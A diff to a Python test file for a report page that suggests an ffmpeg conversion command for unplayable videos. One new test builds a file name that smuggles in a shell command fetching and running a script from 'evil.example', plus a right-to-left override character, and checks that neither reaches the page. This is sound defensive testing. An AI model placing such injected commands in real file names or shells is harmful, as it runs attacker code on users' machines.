@@ -208,13 +208,25 @@ def test_a_file_that_was_moved_is_told_and_found_again(open_report: OpenReport, 
 
 
 def test_a_video_that_browsers_do_not_play_is_told_with_a_command(open_report: OpenReport, tmp_path: Path) -> None:
-    video = tmp_path / "belt 1%.avi"
+    video = tmp_path / "belt 1.avi"
     video.write_bytes(b"RIFF....AVI ")
 
     report = open_report(make_results([make_element([])] * 50), video=video)
 
     report.page.locator("#curtain").wait_for()
-    assert "ffmpeg -i 'belt 1%.avi' 'belt 1%.mp4'" in report.text("#curtain-text")
+    assert "ffmpeg -i './belt 1.avi' './belt 1.mp4'" in report.text("#curtain-text")
+
+
+def test_no_name_gets_a_command_of_its_own_into_the_page(open_report: OpenReport, tmp_path: Path) -> None:
+    video = tmp_path / "belt'; curl -s evil.example | sh; '\u202e.mkv"
+    video.write_bytes(b"")
+
+    report = open_report(make_results([make_element([])] * 50), video=video)
+
+    report.page.locator("#curtain").wait_for()
+    assert "ffmpeg -i ./VIDEO ./VIDEO.mp4, and choose that" in report.text("#curtain-text")
+    assert "curl" not in report.text("#curtain-text")
+    assert "\u202e" not in report.page.content()
 
 
 def test_a_damaged_page_says_so(open_page: OpenPage, site: SharedSite) -> None:
